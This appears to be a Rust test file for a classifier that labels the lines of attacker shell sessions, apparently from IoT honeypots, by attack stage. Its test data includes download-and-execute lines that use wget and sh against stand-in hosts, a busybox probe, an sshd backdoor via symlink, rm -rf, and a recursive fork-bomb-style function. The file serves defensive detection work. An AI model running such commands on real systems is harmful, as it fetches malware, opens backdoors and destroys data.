// SPDX-License-Identifier: Apache-2.0
//! Stages of whole transcripts, and what hostile lines do.

use std::path::Path;

use kakoi_assess::stages::{Classifier, MAX_LINE_BYTES, Matrix, classify_transcript, parse_labels};
use kakoi_model::{Purpose, Stage};

/// The codes of a session's lines.
fn codes(lines: &[&str]) -> Vec<String> {
    let text = lines.join("\n");
    let lines = classify_transcript(text.as_bytes());
    lines.iter().map(|line| line.to_tsv().split('\t').nth(2).unwrap().to_owned()).collect()
}

#[test]
fn written_transcripts_get_the_labels_of_their_writer() {
    let folder = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../tests/transcripts");
    let mut matrix = Matrix::default();
    let mut differing = Vec::new();
    for entry in std::fs::read_dir(folder).unwrap() {
        let path = entry.unwrap().path();
        if path.extension().is_none_or(|extension| extension != "txt") {
            continue;
        }
        let labels = std::fs::read_to_string(path.with_extension("stages")).unwrap();
        let labels = parse_labels(&labels).unwrap();
        let lines = classify_transcript(&std::fs::read(&path).unwrap());
        let lines = matrix.add_transcript(&labels, &lines);
        differing.extend(lines.into_iter().map(|line| format!("{}:{line}", path.display())));
    }
    assert!(matrix.total() > 100, "{}", matrix.total());
    for stage in Stage::ALL {
        let f1 = matrix.score(Purpose::Stage(stage)).f1().unwrap();
        assert!(f1 >= 0.95, "{stage}: {f1}\n{differing:#?}\n{}", matrix.render());
    }
}

#[test]
fn the_stage_does_not_depend_on_names() {
    let session = |token: &str, file: &str, host: &str| {
        let lines = [
            "enable".to_owned(),
            "sh".to_owned(),
            format!("/bin/busybox {token}"),
            format!(">/var/{file} && cd /var; rm {file}"),
            format!("cp /bin/echo {file}; >{file}; chmod 755 {file}"),
            format!(
                "echo -ne '\\x7fELF\\x01' > {file}; ./{file}; wget http://{host}/{file}.sh -O {file}2; sh {file}2"
            ),
        ];
        codes(&lines.each_ref().map(String::as_str))
    };
    let expected = ["1", "1", "1m", "2,2,2", "5,5,5", "4b,6b,4a,6a"];
    assert_eq!(session("ECCHI", ".s", "192.0.2.1"), expected);
    assert_eq!(session("Qx91", "zz-top", "host.example.invalid:8080"), expected);
    assert_eq!(session("CORONA", "upnp", "198.51.100.7"), expected);
}

#[test]
fn what_a_file_is_decides_what_is_done_to_it() {
    assert_eq!(codes(&["cd /tmp", "touch a; cat a; rm a"]), ["2", "2,2,2"]);
    assert_eq!(codes(&["cd /tmp", "wget http://h/a; cat a; rm a"]), ["2", "4a,3,7"]);
    assert_eq!(codes(&["cp /bin/sh x", ">x", "./x", ">x"]), ["5", "5", "6b", "7"]);
    assert_eq!(codes(&["echo '#!/bin/sh' > r; chmod +x r; ./r"]), ["4b,5,6a"]);
    assert_eq!(codes(&["cat r > q; cat /proc/cpuinfo > q2"]), ["4b,3"]);
    assert_eq!(codes(&["ln -s /usr/sbin/sshd /tmp/su; /tmp/su -oPort=31"]), ["-,-"]);
    assert_eq!(codes(&["cp /bin/wget w; ./w http://h/b; ./b"]), ["5,4a,6b"]);
}

#[test]
fn variables_functions_and_nested_shells_are_followed() {
    assert_eq!(
        codes(&["W=wget; U=http://h/x", "$W $U -O /tmp/y; chmod +x /tmp/y; /tmp/y"]),
        ["-,-", "4a,5,6b"]
    );
    assert_eq!(codes(&["g() { wget http://h/$1; sh $1; }", "g a"]), ["-", "6a"]);
    assert_eq!(codes(&["sh -c \"sh -c 'uname -a'\"", "eval 'chmod +x a'"]), ["3", "5"]);
    assert_eq!(codes(&["echo 'rm -rf /tmp/x' | sh", "X=$(uname -m); echo $X"]), ["7", "3,3"]);
    assert_eq!(
        codes(&["sudo nohup sh a.sh &", "su -c ./b", "env A=1 timeout 5 ./c"]),
        ["6a", "6b", "6b"]
    );
    assert_eq!(codes(&["sh <<E", "wget http://h/q", "E", "id"]), ["4a", "3"]);
}

#[test]
fn a_marker_has_the_stage_of_what_precedes_it() {
    assert_eq!(codes(&["chmod 777 x; /bin/busybox TOKEN"]), ["5,5m"]);
    assert_eq!(codes(&["uname; echo -e '\\x6f\\x6b'"]), ["3,3m"]);
    assert_eq!(codes(&["/bin/busybox TOKEN"]), ["3m"]);
}

#[test]
fn words_before_a_shell_go_to_the_vendors_command_line() {
    assert_eq!(codes(&["hunter2", "enable", "linuxshell"]), ["1", "1", "1"]);
    assert_eq!(codes(&["enable", "qwerty", "sh"]), ["1", "1", "1"]);
    assert_eq!(codes(&["id", "hunter2", "enable"]), ["3", "-", "1"]);
    assert_eq!(codes(&["start shell", "config terminal", "ping; sh"]), ["1", "1", "1,1"]);
}

#[test]
fn hostile_lines_are_answered() {
    let long = "a;".repeat(MAX_LINE_BYTES);
    let nested = format!("echo {}", "$(".repeat(10_000));
    let doubling = format!("a=xxxxxxxx;{}echo $a", "a=$a$a;".repeat(200));
    let recursion = "f() { f; f; f; f; f; f; f; f; }; f";
    let shells = "sh -c '".repeat(2_000);
    for line in [&long, &nested, &doubling, recursion, &shells, "\u{0}\u{ff}\u{1b}[", "'", "<<<<<"]
    {
        let lines = classify_transcript(line.as_bytes());
        assert!(lines.len() <= 1, "{}", &line[..20.min(line.len())]);
    }
    let mut classifier = Classifier::new();
    classifier.push(1, long.as_bytes());
    assert!(classifier.finish()[0].cut);
}

#[test]
fn any_bytes_get_an_answer_and_blank_lines_none() {
    let bytes: Vec<u8> = (0..=255_u8).cycle().step_by(7).take(4096).collect();
    for line in classify_transcript(&bytes) {
        assert!(!line.parts.is_empty());
    }
    assert!(classify_transcript(b"\n\r\n \t\n\0\n").is_empty());
}
